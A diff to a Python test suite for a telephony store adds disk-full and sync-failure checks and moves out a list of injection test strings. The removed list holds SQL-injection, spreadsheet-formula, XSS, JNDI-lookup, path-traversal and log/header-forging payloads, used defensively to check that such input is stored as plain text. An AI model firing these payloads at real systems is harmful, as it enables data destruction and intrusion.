@@ -14,6 +14,7 @@ import io
 import json
 import logging
 import os
+import stat
 import time
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
@@ -23,6 +24,7 @@ from typing import Any
 import pytest
 import sqlalchemy as sa
 
+from softswitch.errors import StoreError
 from softswitch.store import log as log_module
 from softswitch.store.customer_files import read_customers, write_customers
 from softswitch.store.customers import Profile
@@ -30,10 +32,12 @@ from softswitch.store.migrate import HEAD, migrate
 from softswitch.store.sheet import Sheet, to_csv, to_xlsx
 from softswitch.store.tickets import Matter
 from tests.disks import small_disk
+from tests.injection import STRINGS
 
 FAULT_S = float(os.environ.get("FAULT_S", "1"))
 RATE = 50  # calls a second while something fails
 SHORT = {"lock_wait_s": 0.2}
+REGION = {"name": "north", "prefixes": ["+8610"]}
 
 
 class Lag:
@@ -111,7 +115,13 @@ async def test_row_48_a_full_disk(tmp_path: Path, store_tools: Any, row: Any) ->
             assert {a.source for a in tools.alarms} & {"log", "database"}
             full_at = calls
             calls = await calls_for(tools, FAULT_S, calls)
+            entries = tools.store.office_entries
+            with pytest.raises(StoreError):  # what somebody writes by the API is refused, in words
+                await entries.add("user:a", "region", "north", REGION)
             resize("64m")
+            await tools.flush_until_good()
+            await entries.add("user:a", "region", "north", REGION)
+            tools.calls.entries += 1
             found = await account(tools, store_tools, directory, calls)
             assert tools.journal.alarms == {}
         row(
@@ -200,10 +210,13 @@ async def test_row_50_a_slow_disk(
 async def test_row_50_a_failing_sync_is_never_taken_for_good(
     tmp_path: Path, store_tools: Any, row: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    failed: list[int] = []
+    failed: list[int] = []  # files; there is but one directory
+    held: list[int] = []  # open, so that no later file is given the number of one that was deleted
 
     def failing(file: int) -> None:
-        failed.append(os.fstat(file).st_ino)
+        held.append(os.dup(file))
+        if stat.S_ISREG(os.fstat(file).st_mode):
+            failed.append(os.fstat(file).st_ino)
         raise OSError(errno.EIO, "Input/output error")
 
     async with store_tools.opened(tmp_path, **SHORT) as tools, lag() as late:
@@ -215,6 +228,9 @@ async def test_row_50_a_failing_sync_is_never_taken_for_good(
         said_s = await alarm(tools)
         calls = await calls_for(tools, FAULT_S, calls + 1)
         monkeypatch.undo()
+        for file in held:
+            os.close(file)
+        assert len(held) >= 2
         assert len(failed) == len(set(failed)), "no file is synced again after it failed once"
         found = await account(tools, store_tools, tmp_path, calls)
     # What counts is a start from what is on the disk.
@@ -290,35 +306,9 @@ async def move(tools: Any, revision: str) -> None:
 
 # -- row 19 ---------------------------------------------------------------------------------------------
 
-STRINGS = (
-    "'; DROP TABLE customers; --",
-    '" OR "1"="1',
-    "1; SELECT pg_sleep(9)",
-    "Robert'); DELETE FROM calls;--",
-    "=cmd|' /C calc'!A0",
-    "+SUM(1+1)*cmd",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)",
-    "\tTab=1",
-    "\r=1+1",
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "javascript:alert(1)",
-    "{{7*7}}",
-    "${jndi:ldap://x.example/a}",
-    "%n%s%x",
-    "../../../etc/passwd",
-    "..\\..\\boot.ini",
-    "a\nlevel=ERROR forged line",
-    "a\r\nSet-Cookie: x=1",
-    "\u202egnp.exe",
-    "\x1b[31mred",
-    "\ufeff\u2028\u0085x",
-)
-
 
 async def test_row_19_what_is_injected_stays_text(
-    tmp_path: Path, any_store: Any, row: Any, caplog: pytest.LogCaptureFixture
+    tmp_path: Path, any_store: Any, caplog: pytest.LogCaptureFixture
 ) -> None:
     assert len(STRINGS) == 23
     caplog.set_level(logging.INFO)
@@ -358,14 +348,6 @@ async def test_row_19_what_is_injected_stays_text(
         assert all(json.dumps(line.details) for line in lines)
     assert await asyncio.to_thread(_outside, tmp_path) == []
     assert not [m for m in caplog.messages if "forged" in m and "\n" in m]
-    row(
-        19,
-        f"injection strings ({any_store.dialect})",
-        strings=len(STRINGS),
-        sinks="database, journal, search, csv, xlsx, json, log, file name",
-        executions=0,
-        files_outside=0,
-    )
 
 
 def _outside(folder: Path) -> list[Path]:
